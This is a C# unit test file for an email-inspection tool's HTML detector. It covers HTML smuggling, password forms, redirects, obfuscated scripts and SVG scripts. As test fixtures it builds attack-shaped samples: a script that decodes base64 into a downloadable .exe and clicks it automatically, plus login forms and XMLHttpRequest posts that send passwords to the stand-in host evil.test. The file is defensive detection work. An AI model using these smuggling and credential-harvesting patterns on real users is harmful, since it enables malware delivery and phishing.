using System.Text;
using Sekisho.Inspection.Detection.Carriers;
using Sekisho.SampleMaker;

namespace Sekisho.Inspection.Tests.Detection.Carriers;

public class PageScriptTests
{
    [Fact]
    public void Smuggling_IsFoundAndTheFileOpened()
    {
        var data = Convert.ToBase64String(ZipWriter.Plain(("a.exe", Samples.Program()))).Insert(40, "\" + \"");
        using var message = Letters.OpenDocument("a.html", Encoding.ASCII.GetBytes($"<html><script>var d=\"{data}\";var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.click()</script></html>"));

        Assert.Contains("HTML_SMUGGLING", Letters.Ask(new PageScript(), message).Select(f => f.Kind.Code));
        Assert.Contains(message.Parts, p => p.Name == "a.exe");
    }

    [Fact]
    public void SavedDataUrl_IsSmuggling() => Assert.Equal(["HTML_SMUGGLING"], Letters.Codes(new PageScript(), "a.html",
        Encoding.ASCII.GetBytes($"<html><a download='x.exe' href='data:application/octet-stream;base64,{Convert.ToBase64String(Samples.Program())}'>open</a></html>")));

    [Fact]
    public void PasswordForm_WeighsMoreInAnAttachment()
    {
        var page = "<html><form action=\"https://evil.test/p\"><input type=password></form></html>"u8.ToArray();

        Assert.Equal([("HTML_PASSWORD_FORM", "sent to https://evil.test/p"), ("HTML_PASSWORD_SENT", "sent to https://evil.test/p")], Letters.Ask(new PageScript(), "login.htm", page).Select(f => (f.Kind.Code, f.Evidence)));
        using var body = Letters.Text("From: a@b.test\nContent-Type: text/html\n\n" + Encoding.ASCII.GetString(page));
        Assert.Equal(["HTML_BODY_PASSWORD_FORM"], Letters.Ask(new PageScript(), body).Select(f => f.Kind.Code));
    }

    [Theory]
    [InlineData("<form><input type=password></form>", false)]
    [InlineData("<form action='/login'><input type=password></form>", false)]
    [InlineData("<form action='mailto:a@evil.test'><input type=password></form>", true)]
    [InlineData("<form><input type=password></form><script>var x = new XMLHttpRequest(); x.open('POST', 'https://evil.test/p');</script>", true)]
    [InlineData("<script>fetch('https://news.test/p')</script>", false)]
    public void SentPassword_IsFound(string page, bool isSent) =>
        Assert.Equal(isSent, Letters.Codes(new PageScript(), "a.html", Encoding.ASCII.GetBytes($"<html><body>{page}</body></html>")).Contains("HTML_PASSWORD_SENT"));

    [Theory]
    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.test/\">", true)]
    [InlineData("<meta http-equiv=refresh content=\"url=https://evil.test/\">", true)]
    [InlineData("<meta http-equiv=refresh content=\"60;url=https://evil.test/\">", false)]
    [InlineData("<meta http-equiv=refresh content=\"0;url=next.html\">", false)]
    [InlineData("<script>window.location.replace('https://evil.test/')</script>", true)]
    [InlineData("<script>function go() { location.href='https://evil.test/'; }</script>", false)]
    [InlineData("<button onclick=\"location.href='https://evil.test/'\">x</button>", false)]
    public void PageThatLeadsOn_IsFound(string page, bool isFound)
    {
        Assert.Equal(isFound, Letters.Codes(new PageScript(), "a.html", Encoding.ASCII.GetBytes($"<html><body>{page}</body></html>")).Contains("HTML_REDIRECT"));
        using var body = Letters.Text($"From: a@b.test\nContent-Type: text/html\n\n<html><body>{page}</body></html>");
        Assert.DoesNotContain(Letters.Ask(new PageScript(), body), f => f.Kind.Code == "HTML_REDIRECT");
    }

    [Fact]
    public void UnreadableScript_IsFound() => Assert.Contains("HTML_OBFUSCATED_SCRIPT", Letters.Codes(new PageScript(), "a.html",
        Encoding.ASCII.GetBytes("<html><script>eval(unescape('" + string.Concat(Enumerable.Repeat("%61%6c%65", 200)) + "'))</script></html>")));

    [Fact]
    public void PictureWithScript_IsFound() => Assert.Equal(["SVG_SCRIPT"], Letters.Codes(new PageScript(), "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"go()\"><path/></svg>"u8.ToArray()));

    [Fact]
    public void Newsletter_IsNot() => Assert.Empty(Letters.Codes(new PageScript(), "a.html",
        Encoding.UTF8.GetBytes("<html><head><style>a{}</style><script type=\"application/ld+json\">{\"@type\":\"Event\"}</script></head><body><div style=\"display:none\">今週のお知らせ"
            + string.Concat(Enumerable.Repeat("&zwnj;&nbsp;", 300)) + "</div><a href=\"https://news.test/1\">続きを読む</a><img src=\"data:image/png;base64,iVBORw0KGgo=\"></body></html>")));
}
